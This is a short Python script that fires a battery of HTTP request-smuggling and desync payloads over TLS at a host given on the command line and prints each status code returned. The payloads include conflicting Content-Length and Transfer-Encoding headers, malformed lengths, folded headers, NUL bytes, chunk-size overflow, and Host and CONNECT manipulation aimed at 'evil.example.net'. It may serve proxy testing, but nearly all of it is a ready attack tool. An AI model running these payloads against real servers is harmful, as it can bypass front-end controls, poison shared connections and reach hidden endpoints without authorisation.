"""Requests that two servers could understand differently, sent over one intercepted connection.

Prints for each its name and every status that came back; `closed` if none did.
"""
import os
import re
import socket
import ssl
import sys

HANG = 60
NAME, WORD = sys.argv[1], sys.argv[2]
HIDDEN = f"GET /hidden-{WORD} HTTP/1.1\r\nHost: {NAME}\r\n\r\n"
SIZE = len(HIDDEN)
BACK = f"Host: {NAME}\r\n"

CASES = {
    "length and chunks": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Content-Length: {SIZE + 5}\r\n"
    f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{HIDDEN}",
    "chunks and length": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Transfer-Encoding: chunked\r\n"
    f"Content-Length: 4\r\n\r\n0\r\n\r\n{HIDDEN}",
    "two lengths": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Content-Length: 0\r\n"
    f"Content-Length: {SIZE}\r\n\r\n{HIDDEN}",
    "length list": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Content-Length: 0, {SIZE}\r\n\r\n{HIDDEN}",
    "negative length": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Content-Length: -1\r\n\r\n{HIDDEN}",
    "signed length": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Content-Length: +0\r\n\r\n{HIDDEN}",
    "unknown coding": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Transfer-Encoding: xchunked\r\n"
    f"Content-Length: 0\r\n\r\n{HIDDEN}",
    "two codings": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Transfer-Encoding: chunked\r\n"
    f"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n{HIDDEN}",
    "space before colon": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Transfer-Encoding : chunked\r\n"
    f"Content-Length: 0\r\n\r\n{HIDDEN}",
    "folded header": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}X: y\r\n Transfer-Encoding: chunked\r\n"
    f"Content-Length: 0\r\n\r\n{HIDDEN}",
    "nul in header": f"GET /a-{WORD} HTTP/1.1\r\n{BACK}X: a\0b\r\n\r\n{HIDDEN}",
    "chunk size overflow": f"POST /a-{WORD} HTTP/1.1\r\n{BACK}Transfer-Encoding: chunked\r\n\r\n"
    f"10000000000000000\r\n\r\n{HIDDEN}",
    "connect": "CONNECT evil.example.net:443 HTTP/1.1\r\nHost: evil.example.net:443\r\n\r\n",
    "connect to itself": f"CONNECT {NAME}:22 HTTP/1.1\r\nHost: {NAME}:22\r\n\r\n",
    "another host": f"GET /hidden-{WORD} HTTP/1.1\r\nHost: evil.example.net\r\n\r\n",
    "another target": f"GET https://evil.example.net/hidden-{WORD} HTTP/1.1\r\n{BACK}\r\n",
    "two hosts": f"GET /hidden-{WORD} HTTP/1.1\r\n{BACK}Host: evil.example.net\r\n\r\n",
    "no host": f"GET /hidden-{WORD} HTTP/1.1\r\n\r\n",
    "another port": f"GET /hidden-{WORD} HTTP/1.1\r\nHost: {NAME}:8443\r\n\r\n",
}


def send(text):
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    plain = socket.create_connection((NAME, 443), timeout=HANG)
    with context.wrap_socket(plain, server_hostname=NAME) as one:
        answer = b""
        try:
            one.sendall(text.encode("latin-1"))
            # A server that waits for more of a body gets the end of the stream.
            one.shutdown(socket.SHUT_WR)
            while data := one.recv(1 << 16):
                answer += data
        except OSError:
            pass
        return re.findall(rb"HTTP/1\.[01] (\d{3})", answer)


for case, text in CASES.items():
    print(f"{case}: {' '.join(status.decode() for status in send(text)) or 'closed'}")
